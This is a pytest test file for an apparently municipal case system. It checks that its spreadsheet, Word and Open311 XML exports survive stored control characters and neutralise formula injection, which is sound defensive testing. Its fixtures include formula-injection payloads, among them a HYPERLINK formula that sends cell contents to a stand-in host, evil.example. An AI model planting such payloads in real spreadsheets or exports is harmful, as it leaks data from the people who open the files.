"""Exports stay whole and inert (docs/security.md "Exports"): text stored before the input rule, with
control characters in it, no longer cuts the ledger's .xlsx off or makes the daily papers a 500; and
text that starts like a formula is written as text, never as a live formula — in every .xlsx writer
(the ledger, the papers) and the Open311 XML, on SQLite and PostgreSQL."""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
import zipfile
from datetime import date
from typing import Any

import pytest
from docx import Document
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from citysteward.cases import tables as cases_tables
from citysteward.evaluation.papers import build as papers
from citysteward.kernel.text import printable
from citysteward.platform.runtime import Runtime
from citysteward.supervision.services.sweep import sweep
from tests.builders.cases import dispatched, report
from tests.conftest import City

# What older rows may hold (PostgreSQL text cannot hold NUL, so no stored row has one).
DIRTY = "井盖\x1b[31m破损\x07，\x0b见\x9b附图\ufffe"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1"]
XML_CHAR = re.compile("^[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]*$")


def overwrite(rt: Runtime, case_no: str, **values: str) -> None:
    """Put text into a stored case as rows written before the input rule may hold it."""
    with rt.uow() as uow:
        uow.conn.execute(update(cases_tables.cases).where(cases_tables.cases.c.case_no == case_no)  # type: ignore[attr-defined]
                         .values(**values))
        uow.commit()


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_inert(content: bytes, texts: list[str]) -> None:
    """Every text is a string cell marked as typed text (quote prefix), none a formula."""
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
    wb = load_workbook(io.BytesIO(content))
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in texts:
        cell = cells[printable(text)]
        assert cell.data_type == "s" and cell.quotePrefix, text


@pytest.fixture
def ledger_cases(city: City) -> list[str]:
    case_nos = [report(city, description=f"描述{i}") for i in range(len(FORMULAS) + 1)]
    overwrite(city.rt, case_nos[0], description=DIRTY, address="解放路\x1b88号")
    for case_no, text in zip(case_nos[1:], FORMULAS, strict=True):
        overwrite(city.rt, case_no, description=text, address=text)
    return case_nos


def test_the_ledger_export_is_whole_with_stored_control_characters(client_for: Any, ledger_cases: list[str]) -> None:
    r = client_for("leader").get("/console/cases/export.xlsx")
    assert r.status_code == 200
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))  # a cut file fails here
    by_no = {row[0]: row for row in rows[1:]}
    assert set(by_no) == set(ledger_cases)
    assert by_no[ledger_cases[0]][5] == "井盖[31m破损，\n见附图" and by_no[ledger_cases[0]][6] == "解放路88号"
    assert all(XML_CHAR.match(v) for row in rows for v in row if isinstance(v, str))


def test_the_ledger_export_writes_formulas_as_text(client_for: Any, ledger_cases: list[str]) -> None:
    r = client_for("leader").get("/console/cases/export.xlsx")
    assert r.status_code == 200
    assert_inert(r.content, FORMULAS)
    rows = {row[0]: row for row in load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True)}
    assert [rows[no][5] for no in ledger_cases[1:]] == [printable(t) for t in FORMULAS]  # shown as typed


@pytest.fixture
def overdue(city: City, clock: Any) -> tuple[City, date]:
    """Two cases overdue at the end of a day, their addresses as older rows may hold them."""
    first, second = report(city), report(city)
    dispatched(city, first)
    dispatched(city, second)
    overwrite(city.rt, first, address=DIRTY)
    overwrite(city.rt, second, address=FORMULAS[0])
    clock.advance(days=30)
    sweep(city.rt)  # the overdue step the papers list
    return city, clock.now.astimezone(city.rt.settings.tz).date()


def test_the_daily_papers_are_made_with_stored_control_characters(overdue: tuple[City, date],
                                                                 client: TestClient, token: Any) -> None:
    city, day = overdue
    word = client.get("/api/v1/reports/daily.docx", params={"date": day.isoformat()}, headers=token("leader"))
    assert word.status_code == 200, word.text
    cells = [c.text for t in Document(io.BytesIO(word.content)).tables for row in t.rows for c in row.cells]
    assert printable(DIRTY) in cells and FORMULAS[0] in cells
    excel = client.get("/api/v1/reports/daily.xlsx", params={"date": day.isoformat()}, headers=token("leader"))
    assert excel.status_code == 200, excel.text
    assert_inert(excel.content, [FORMULAS[0]])
    values = [c for ws in load_workbook(io.BytesIO(excel.content)).worksheets for row in ws.iter_rows(values_only=True)
              for c in row]
    assert printable(DIRTY) in values


def test_the_paper_writers_never_write_a_formula(overdue: tuple[City, date]) -> None:
    city, day = overdue
    _, content, _ = papers.build(city.rt, "daily", day, "xlsx")
    assert_inert(content, [FORMULAS[0]])


def test_open311_xml_stays_well_formed(city: City, client: TestClient, ledger_cases: list[str]) -> None:
    r = client.get(f"/open311/v2/requests/{ledger_cases[0]}.xml")
    assert r.status_code == 200
    root = ET.fromstring(r.content)  # an invalid character would fail the parser
    assert root.find("request/description").text == printable(DIRTY)  # type: ignore[union-attr]
